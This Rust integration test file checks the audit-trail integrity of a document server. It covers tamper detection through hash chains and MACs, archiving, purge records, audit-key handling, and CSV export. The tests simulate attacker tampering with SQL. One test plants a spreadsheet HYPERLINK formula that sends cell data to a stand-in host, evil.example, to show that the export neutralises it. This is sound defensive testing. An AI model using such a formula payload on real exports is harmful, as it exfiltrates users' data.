//! The audit trail's integrity (issue 14): someone with write access to the database
//! alone can neither shorten nor rewrite a trail unnoticed, deleting a document archives
//! it with its trail, a purge leaves its own record, the key lives outside the database,
//! and the CSV export keeps formulas as text.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};
use reqwest::Method;
use serde_json::Value;
use tokio::io::{AsyncBufReadExt, BufReader};

use forankra::audit::key::KeySource;
use forankra::audit::{self, Entry};
use forankra::ids::DocId;
use forankra::storage::Db;

use crate::both_dbs;
use crate::helpers::*;

const DRAFT: &str = "# Trygghetsprogram\n\nFörebyggande arbete i skolan är viktigt.\n";

/// A draft whose trail has four entries: created, two invitations, a role change.
async fn a_trail(backend: Backend) -> Result<Draft> {
    let draft = Draft::new(
        backend,
        "Trygghetsprogram",
        DRAFT,
        &[("utbildning", "viewer"), ("miljo", "viewer")],
    )
    .await?;
    let status = draft
        .app
        .set_role(&draft.owner, &draft.doc, "utbildning", "commenter")
        .await?;
    ensure!(status == 200, "role change: {status}");
    ensure!(stored(&draft).await?.len() == 4);
    Ok(draft)
}

async fn verify(draft: &Draft) -> Result<Value> {
    let path = format!("/api/documents/{}/audit/verify", draft.doc);
    let (status, verdict) = call(&draft.app, Method::GET, &path, &draft.owner, None).await?;
    ensure!(status == 200, "verify: {status} {verdict}");
    Ok(verdict)
}

/// The stored entries, read past the server as an attacker would.
async fn stored(draft: &Draft) -> Result<Vec<Entry>> {
    Ok(audit::entries(&draft.app.state.db, &DocId::parse(draft.doc.clone())?).await?)
}

/// Runs one statement binding the document id as `$1`.
async fn tamper(db: &Db, sql: &'static str, doc: &str) -> Result<u64> {
    Ok(match db {
        Db::Sqlite(pool) => sqlx::query(sql)
            .bind(doc)
            .execute(pool)
            .await?
            .rows_affected(),
        Db::Postgres(pool) => sqlx::query(sql)
            .bind(doc)
            .execute(pool)
            .await?
            .rows_affected(),
    })
}

/// Overwrites one stored entry's detail and hashes, as an attacker without the key would.
async fn overwrite(db: &Db, doc: &str, e: &Entry) -> Result<()> {
    let sql = "UPDATE audit_log SET detail = $2, prev_hash = $3, hash = $4, mac = $5 \
               WHERE doc_id = $1 AND seq = $6";
    let done = match db {
        Db::Sqlite(pool) => sqlx::query(sql)
            .bind(doc)
            .bind(&e.detail)
            .bind(&e.prev_hash)
            .bind(&e.hash)
            .bind(&e.mac)
            .bind(e.seq)
            .execute(pool)
            .await?
            .rows_affected(),
        Db::Postgres(pool) => sqlx::query(sql)
            .bind(doc)
            .bind(&e.detail)
            .bind(&e.prev_hash)
            .bind(&e.hash)
            .bind(&e.mac)
            .bind(e.seq)
            .execute(pool)
            .await?
            .rows_affected(),
    };
    ensure!(done == 1);
    Ok(())
}

/// Tampers with the database by `sql`, then checks what verify reports.
async fn tampered(
    draft: &Draft,
    sql: &'static str,
    expected: (bool, Option<i64>, Option<&str>),
) -> Result<()> {
    tamper(&draft.app.state.db, sql, &draft.doc).await?;
    let verdict = verify(draft).await?;
    ensure!(breach(&verdict) == expected, "after {sql}: {verdict}");
    Ok(())
}

fn breach(verdict: &Value) -> (bool, Option<i64>, Option<&str>) {
    (
        verdict["valid"].as_bool().unwrap_or(true),
        verdict["firstBroken"].as_i64(),
        verdict["reason"].as_str(),
    )
}

both_dbs!(
    removing_the_last_entries_is_detected,
    |backend| async move {
        let draft = a_trail(backend).await?;
        let verdict = verify(&draft).await?;
        ensure!(
            breach(&verdict) == (true, None, None) && verdict["legacyUntil"] == 0,
            "an untouched trail: {verdict}"
        );
        const DROP_AFTER_2: &str = "DELETE FROM audit_log WHERE doc_id = $1 AND seq > 2";
        tampered(&draft, DROP_AFTER_2, (false, Some(3), Some("truncated"))).await?;
        ensure!(stored(&draft).await?.len() == 2);
        // The next entry follows the lost ones, so the gap stays visible.
        let status = draft
            .app
            .set_role(&draft.owner, &draft.doc, "miljo", "commenter")
            .await?;
        ensure!(status == 200, "role change: {status}");
        let numbers: Vec<i64> = stored(&draft).await?.iter().map(|e| e.seq).collect();
        ensure!(numbers == [1, 2, 5], "{numbers:?}");
        let verdict = verify(&draft).await?;
        ensure!(
            breach(&verdict) == (false, Some(5), Some("out_of_sequence")),
            "{verdict}"
        );
        // Rewriting the head to fit the shorter trail needs the key.
        tamper(&draft.app.state.db, DROP_AFTER_2, &draft.doc).await?;
        tampered(
            &draft,
            "UPDATE audit_heads SET seq = 2, \
             hash = (SELECT hash FROM audit_log WHERE doc_id = $1 AND seq = 2) WHERE doc_id = $1",
            (false, None, Some("head_forged")),
        )
        .await
    }
);

both_dbs!(
    rewriting_an_entry_and_recomputing_the_later_hashes_is_detected,
    |backend| async move {
        let draft = a_trail(backend).await?;
        let db = &draft.app.state.db;
        let mut entries = stored(&draft).await?;
        // Entry 2 invited utbildning as a viewer; make it say owner, then recompute every
        // later hash the way the plain chain does, and move the head's hash along.
        entries[1].detail = entries[1].detail.replace("viewer", "owner");
        for i in 1..entries.len() {
            entries[i].prev_hash = entries[i - 1].hash.clone();
            entries[i].hash = audit::chain::hash(&draft.doc, &entries[i]);
            overwrite(db, &draft.doc, &entries[i]).await?;
        }
        let last = entries.last().context("entries")?.hash.clone();
        let sql = "UPDATE audit_heads SET hash = (SELECT hash FROM audit_log WHERE doc_id = $1 AND seq = 4) WHERE doc_id = $1";
        ensure!(tamper(db, sql, &draft.doc).await? == 1);
        let (status, trail) = call(
            &draft.app,
            Method::GET,
            &format!("/api/documents/{}/audit", draft.doc),
            &draft.owner,
            None,
        )
        .await?;
        ensure!(
            status == 200 && trail[3]["hash"] == last.as_str(),
            "{trail}"
        );
        let verdict = verify(&draft).await?;
        ensure!(
            breach(&verdict) == (false, Some(2), Some("mac_mismatch")),
            "rewritten with recomputed hashes: {verdict}"
        );
        // Dropping the MACs does not pass the rewritten entries off as legacy ones.
        tampered(
            &draft,
            "UPDATE audit_log SET mac = NULL WHERE doc_id = $1 AND seq >= 2",
            (false, Some(2), Some("mac_missing")),
        )
        .await
    }
);

both_dbs!(
    a_trail_from_before_keys_verifies_as_legacy,
    |backend| async move {
        let draft = a_trail(backend).await?;
        let db = draft.app.state.db.clone();
        // What a database written by the previous version looks like.
        for sql in [
            "UPDATE audit_log SET mac = NULL WHERE doc_id = $1",
            "DELETE FROM audit_heads WHERE doc_id = $1",
            "DELETE FROM settings WHERE key = 'audit_key_check' AND $1 = $1",
        ] {
            tamper(&db, sql, &draft.doc).await?;
        }
        let Draft { app, owner, doc } = draft;
        let app = TestApp::spawn_on(app.stop().await?, |_| {}).await?;
        let draft = Draft { app, owner, doc };
        let verdict = verify(&draft).await?;
        ensure!(
            breach(&verdict) == (true, None, None) && verdict["legacyUntil"] == 4,
            "adopted: {verdict}"
        );
        let status = draft
            .app
            .set_role(&draft.owner, &draft.doc, "miljo", "commenter")
            .await?;
        ensure!(status == 200);
        let verdict = verify(&draft).await?;
        ensure!(
            breach(&verdict) == (true, None, None)
                && verdict["entries"] == 5
                && verdict["legacyUntil"] == 4,
            "{verdict}"
        );
        tampered(
            &draft,
            "DELETE FROM audit_log WHERE doc_id = $1 AND seq = 5",
            (false, Some(5), Some("truncated")),
        )
        .await
    }
);

both_dbs!(
    deleting_a_document_archives_it_and_keeps_its_trail,
    |backend| async move {
        let draft = a_trail(backend).await?;
        let (app, doc, owner) = (&draft.app, &draft.doc, &draft.owner);
        let sara = app.token("sara", "utbildning");
        let mut editor = WsClient::connect(&app.ws_url(doc, owner)).await?;
        let path = format!("/api/documents/{doc}");
        let (status, body) = call(app, Method::DELETE, &path, owner, None).await?;
        ensure!(status == 204, "archive: {status} {body}");
        let (code, reason) = editor.expect_close().await?;
        ensure!(code == 4410, "open editor closed with {code} {reason}");
        let mut late = WsClient::connect_unsynced(&app.ws_url(doc, &sara)).await?;
        let (code, _) = late.expect_close().await?;
        ensure!(code == 4410, "a new connection got {code}");
        let (status, list) = call(app, Method::GET, "/api/documents", owner, None).await?;
        ensure!(
            status == 200 && list.as_array().is_some_and(Vec::is_empty),
            "{list}"
        );
        // Its owners still find it, to read its trail; an invitee does not.
        let archived = "/api/documents?archived=true";
        let (status, list) = call(app, Method::GET, archived, owner, None).await?;
        ensure!(
            status == 200 && list[0]["id"] == doc.as_str() && list[0]["archivedAt"].is_i64(),
            "{list}"
        );
        let (_, list) = call(app, Method::GET, archived, &sara, None).await?;
        ensure!(list.as_array().is_some_and(Vec::is_empty), "{list}");
        for (method, path) in [
            (Method::GET, path.clone()),
            (Method::DELETE, path.clone()),
            (Method::GET, format!("{path}/threads")),
        ] {
            let (status, body) = call(app, method, &path, owner, None).await?;
            ensure!(
                status == 410 && body["error"] == "document_archived",
                "{path}: {status} {body}"
            );
        }
        let (status, trail) = call(app, Method::GET, &format!("{path}/audit"), owner, None).await?;
        ensure!(status == 200, "{status} {trail}");
        let last = trail.as_array().and_then(|t| t.last()).context("trail")?;
        ensure!(
            last["action"] == "document_archived"
                && last["actor"]["id"] == "maria"
                && last["mac"].as_str().is_some_and(|m| m.len() == 64),
            "{last}"
        );
        ensure!(breach(&verify(&draft).await?) == (true, None, None));
        let (status, _) = call(app, Method::GET, &format!("{path}/audit"), &sara, None).await?;
        ensure!(
            status == 403,
            "an invitee read the archived trail: {status}"
        );
        Ok(())
    }
);

/// Runs the binary to the end; returns whether it succeeded and its standard error.
async fn run(args: &[&str]) -> Result<(bool, String)> {
    let output = tokio::time::timeout(
        WAIT,
        tokio::process::Command::new(binary_path()?)
            .args(args)
            .env_remove("FORANKRA_AUDIT_KEY")
            .env_remove("FORANKRA_AUDIT_KEY_FILE")
            .output(),
    )
    .await??;
    Ok((
        output.status.success(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    ))
}

/// `forankra purge` of `doc` with the test key; whether it succeeded and its stderr.
async fn purge(url: &str, doc: &str, extra: &[&str]) -> Result<(bool, String)> {
    let mut args = vec![
        "purge",
        "--database-url",
        url,
        "--audit-key",
        forankra::config::TEST_AUDIT_KEY,
        "--document",
        doc,
        "--by",
        "Registrator Eva",
        "--reason",
        "Gallringsbeslut 2026:14",
    ];
    args.extend_from_slice(extra);
    run(&args).await
}

both_dbs!(
    purging_removes_an_archived_document_and_leaves_a_record,
    |backend| async move {
        let draft = a_trail(backend).await?;
        let doc = draft.doc.clone();
        let (app, owner) = (&draft.app, &draft.owner);
        let url = app.db.url.clone();
        let (ok, stderr) = purge(&url, &doc, &[]).await?;
        ensure!(
            !ok && stderr.contains("not archived"),
            "a live document was purged: {stderr}"
        );
        // A second archived document whose trail was shortened afterwards.
        let broken = app.create_doc(owner, "Andra", None).await?;
        for id in [&doc, &broken] {
            let path = format!("/api/documents/{id}");
            let (status, _) = call(app, Method::DELETE, &path, owner, None).await?;
            ensure!(status == 204);
        }
        let sql = "DELETE FROM audit_log WHERE doc_id = $1 AND action = 'document_archived'";
        tamper(&app.state.db, sql, &broken).await?;
        let last = stored(&draft).await?.pop().context("trail")?;
        // Log rows of both kinds, which the purge must take along (PostgreSQL has no
        // foreign key on them since migration 0430).
        plant_update(&draft.app, &doc, &[0]).await?;
        let sql = "INSERT INTO document_deletions (doc_id, seq, user_id, org_id, deleted_at, delete_set) \
                   VALUES ($1, 1, 'u', 'o', 0, '')";
        tamper(&draft.app.state.db, sql, &doc).await?;
        let test_db = draft.app.stop().await?;
        let (ok, stderr) = purge(&test_db.url, &doc, &[]).await?;
        ensure!(ok, "purge failed: {stderr}");
        let (ok, stderr) = purge(&test_db.url, &broken, &[]).await?;
        ensure!(
            !ok && stderr.contains("does not verify") && stderr.contains("truncated"),
            "a broken trail was purged unasked: {stderr}"
        );
        let (ok, stderr) = purge(&test_db.url, &broken, &["--despite-broken-trail"]).await?;
        ensure!(ok, "purge failed: {stderr}");
        let db = Db::connect(&test_db.url).await?;
        let log = audit::purge::log(&db).await?;
        let key = audit::key::AuditKey::new(forankra::config::TEST_AUDIT_KEY.as_bytes(), "test")?;
        ensure!(
            log.len() == 2 && log.iter().all(|r| r.authentic(&key)),
            "{log:?}"
        );
        let record = log.iter().find(|r| r.doc_id == doc).context("the record")?;
        ensure!(
            record.purged_by == "Registrator Eva"
                && record.reason == "Gallringsbeslut 2026:14"
                && record.title == "Trygghetsprogram"
                && record.audit_entries == last.seq
                && record.audit_hash == last.hash
                && record.audit_valid == 1,
            "{record:?} vs the trail's end {} {}",
            last.seq,
            last.hash
        );
        let other = log
            .iter()
            .find(|r| r.doc_id == broken)
            .context("the record")?;
        ensure!(
            other.audit_valid == 0 && other.audit_reason.as_deref() == Some("truncated"),
            "{other:?}"
        );
        let id = DocId::parse(doc.clone())?;
        ensure!(
            db.document(&id).await?.is_none(),
            "the document is still there"
        );
        ensure!(
            audit::entries(&db, &id).await?.is_empty(),
            "the trail is still there"
        );
        let left = forankra::on_pool!(&db, pool => {
            let (n,): (i64,) = sqlx::query_as(
                "SELECT (SELECT COUNT(*) FROM document_updates WHERE doc_id = $1) \
                 + (SELECT COUNT(*) FROM document_deletions WHERE doc_id = $1)",
            )
            .bind(&doc)
            .fetch_one(pool)
            .await?;
            Ok::<_, anyhow::Error>(n)
        })?;
        ensure!(
            left == 0,
            "{left} rows of the purged document's log are left"
        );
        // The record cannot be edited with database access alone.
        tamper(
            &db,
            "UPDATE purge_log SET reason = 'Utan beslut' WHERE doc_id = $1",
            &doc,
        )
        .await?;
        let log = audit::purge::log(&db).await?;
        let edited = log.iter().find(|r| r.doc_id == doc).context("the record")?;
        ensure!(!edited.authentic(&key), "an edited purge record passed");
        db.close().await;
        Ok(())
    }
);

/// Starts `forankra serve` with `args`; returns the child once it listens, or its
/// standard error if it exits first.
async fn start(args: &[&str]) -> Result<std::result::Result<tokio::process::Child, String>> {
    let mut child = tokio::process::Command::new(binary_path()?)
        .args([
            "serve",
            "--listen",
            "127.0.0.1:0",
            "--jwt-secret",
            "s3cret-for-tests",
        ])
        .args(args)
        .env_remove("FORANKRA_AUDIT_KEY")
        .env_remove("FORANKRA_AUDIT_KEY_FILE")
        .env("RUST_LOG", "info")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()?;
    let mut lines = BufReader::new(child.stderr.take().context("stderr")?).lines();
    let mut seen = String::new();
    tokio::time::timeout(WAIT, async {
        while let Some(line) = lines.next_line().await? {
            if line.contains("address=") {
                return Ok(Ok(child));
            }
            seen.push_str(&line);
            seen.push('\n');
        }
        child.wait().await?;
        Ok(Err(seen))
    })
    .await
    .context("the server neither listened nor exited")?
}

#[cfg(unix)]
fn mode(path: &Path) -> Result<u32> {
    use std::os::unix::fs::PermissionsExt;
    Ok(std::fs::metadata(path)?.permissions().mode() & 0o777)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_audit_key_lives_beside_the_database_and_a_lost_or_wrong_key_stops_the_start()
-> Result<()> {
    let dir = tempfile::tempdir()?;
    let db = dir.path().join("forankra.db").display().to_string();
    let key_file = dir.path().join("forankra.db.audit-key");
    let mut server = start(&["--database-url", &db])
        .await?
        .map_err(anyhow::Error::msg)?;
    server.start_kill()?;
    server.wait().await?;
    let key = std::fs::read_to_string(&key_file).context("no key file beside the database")?;
    ensure!(key.trim().len() == 64, "{key:?}");
    #[cfg(unix)]
    ensure!(mode(&key_file)? == 0o600, "mode {:o}", mode(&key_file)?);
    std::fs::remove_file(&key_file)?;
    match start(&["--database-url", &db]).await? {
        Ok(_) => bail!("started without its key, making a new one"),
        Err(stderr) => ensure!(
            stderr.contains("audit key file") && stderr.contains("is missing"),
            "{stderr}"
        ),
    }
    ensure!(!key_file.exists(), "a new key was made");
    std::fs::write(&key_file, format!("{}\n", "ab".repeat(32)))?;
    match start(&["--database-url", &db]).await? {
        Ok(_) => bail!("started with a different key"),
        Err(stderr) => ensure!(stderr.contains("does not match"), "{stderr}"),
    }
    std::fs::write(&key_file, &key)?;
    let mut server = start(&["--database-url", &db])
        .await?
        .map_err(anyhow::Error::msg)?;
    server.start_kill()?;
    server.wait().await?;
    match start(&["--database-url", &db, "--audit-key", "too short"]).await? {
        Ok(_) => bail!("started with a key of 9 bytes"),
        Err(stderr) => ensure!(stderr.contains("shorter than 32"), "{stderr}"),
    }
    Ok(())
}

both_dbs!(the_audit_csv_keeps_formulas_as_text, |backend| async move {
    let app = TestApp::spawn(backend).await?;
    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Öppna\")";
    let token = forankra_testkit::token::sign(
        &app.state.tokens,
        "mallory",
        name,
        "stadsledningskontoret",
        Duration::from_secs(3600),
    )?;
    let doc = app.create_doc(&token, "Plan", Some(DRAFT)).await?;
    let (status, csv) = app
        .get_text(&token, &format!("/api/documents/{doc}/audit?format=csv"))
        .await?;
    ensure!(status == 200, "{status} {csv}");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    ensure!(reader.headers()?.iter().next_back() == Some("mac"));
    let mut names = Vec::new();
    for row in reader.records() {
        let row = row?;
        for cell in row.iter() {
            ensure!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
        }
        names.push(row.get(4).unwrap_or_default().to_owned());
        ensure!(row.get(9).is_some_and(|mac| mac.len() == 64), "{row:?}");
    }
    ensure!(
        names.first().map(String::as_str) == Some(&*format!("'{name}")),
        "{names:?}"
    );
    Ok(())
});

both_dbs!(
    a_server_with_another_or_a_lost_key_does_not_start,
    |backend| async move {
        let draft = a_trail(backend).await?;
        let test_db = draft.app.stop().await?;
        let start_with = |source: KeySource| {
            let config = forankra::Config {
                audit_key: source,
                ..forankra::Config::for_tests(test_db.url.clone())
            };
            forankra::App::build(config)
        };
        let other = KeySource::Value("another key, 32 bytes or longer, yes".into());
        let Err(error) = start_with(other).await else {
            bail!("a server started with another audit key");
        };
        ensure!(format!("{error:#}").contains("does not match"), "{error:#}");
        let dir = tempfile::tempdir()?;
        let lost = dir.path().join("audit.key");
        let Err(error) = start_with(KeySource::File(lost.clone())).await else {
            bail!("a server started without its audit key");
        };
        ensure!(format!("{error:#}").contains("is missing"), "{error:#}");
        ensure!(!lost.exists(), "a new key was made for a keyed trail");
        // With its own key it starts, and the trail still verifies.
        let app = TestApp::spawn_on(test_db, |_| {}).await?;
        let owner = app.token("maria", "stadsledningskontoret");
        let (status, list) = call(&app, Method::GET, "/api/documents", &owner, None).await?;
        let doc = list[0]["id"].as_str().context("the draft")?.to_owned();
        ensure!(status == 200);
        let draft = Draft { app, owner, doc };
        ensure!(breach(&verify(&draft).await?) == (true, None, None));
        Ok(())
    }
);

both_dbs!(
    a_trail_removed_with_its_head_stays_detected,
    |backend| async move {
        let draft = a_trail(backend).await?;
        tamper(
            &draft.app.state.db,
            "DELETE FROM audit_log WHERE doc_id = $1",
            &draft.doc,
        )
        .await?;
        tampered(
            &draft,
            "DELETE FROM audit_heads WHERE doc_id = $1",
            (false, None, Some("head_missing")),
        )
        .await?;
        // The server does not begin a new trail over the removed one.
        let (status, refusal) = call(
            &draft.app,
            Method::PUT,
            &format!("/api/documents/{}/members/miljo", draft.doc),
            &draft.owner,
            Some(serde_json::json!({"role": "commenter"})),
        )
        .await?;
        ensure!(
            status == 500 && refusal["error"] == "audit_trail_broken",
            "the next action: {status} {refusal}"
        );
        ensure!(stored(&draft).await?.is_empty());
        let verdict = verify(&draft).await?;
        ensure!(
            breach(&verdict) == (false, None, Some("head_missing")),
            "{verdict}"
        );
        Ok(())
    }
);
